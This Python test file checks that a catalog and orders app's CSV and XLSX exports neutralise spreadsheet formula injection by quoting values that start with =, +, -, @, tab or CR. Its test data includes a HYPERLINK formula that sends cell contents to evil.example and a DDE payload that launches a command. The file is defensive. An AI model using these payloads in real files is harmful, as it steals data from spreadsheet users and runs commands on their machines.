"""Issue 38 item 5: texts a spreadsheet would run (`=…`, `+…`, `-…`, `@…`, tab, CR) are written as text in every
CSV and XLSX export. Before: purchase-list and catalog exports wrote `=…` verbatim and XLSX made them live
formulas."""

from __future__ import annotations

import io

import tablib
from openpyxl import load_workbook

from catalog.admin import FormulaSafeCSV, FormulaSafeXLSX
from config.spreadsheets import formula_safe
from orders.exports import safe_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_every_formula_start_gets_a_quote_and_other_values_stay() -> None:
    assert [formula_safe(text) for text in HOSTILE] == [f"'{text}" for text in HOSTILE]
    assert [safe_text(text) for text in HOSTILE] == [f"'{text}" for text in HOSTILE]
    assert [formula_safe(value) for value in ("RTX 5090", "", -5, 1.5, None)] == ["RTX 5090", "", -5, 1.5, None]


def _dataset() -> tablib.Dataset:
    data = tablib.Dataset(headers=["sku", "name", "price"])
    for number, text in enumerate(HOSTILE):
        data.append([f"sku-{number}", text, 100 + number])
    return data


def test_the_catalog_csv_export_writes_formulas_as_text() -> None:
    exported = FormulaSafeCSV().export_data(_dataset())
    lines = exported.splitlines() if isinstance(exported, str) else exported.decode().splitlines()
    assert lines[0] == "sku,name,price"
    assert lines[1] == 'sku-0,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",100'
    assert lines[3] == "sku-2,'-2+3,102"


def test_the_catalog_xlsx_export_has_no_formula_cell() -> None:
    sheet = load_workbook(io.BytesIO(FormulaSafeXLSX().export_data(_dataset()))).active
    assert sheet is not None
    names = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(HOSTILE))]
    assert [cell.data_type for cell in names] == ["s"] * len(HOSTILE)
    # a stored CR reads back as CR or as LF depending on openpyxl's XML writer (lxml keeps it, ElementTree
    # normalises it); the cell is text all the same
    assert [str(cell.value).replace("\r", "\n") for cell in names] == [
        f"'{text}".replace("\r", "\n") for text in HOSTILE
    ]
    assert [sheet.cell(row=row, column=3).value for row in range(2, 4)] == [100, 101]
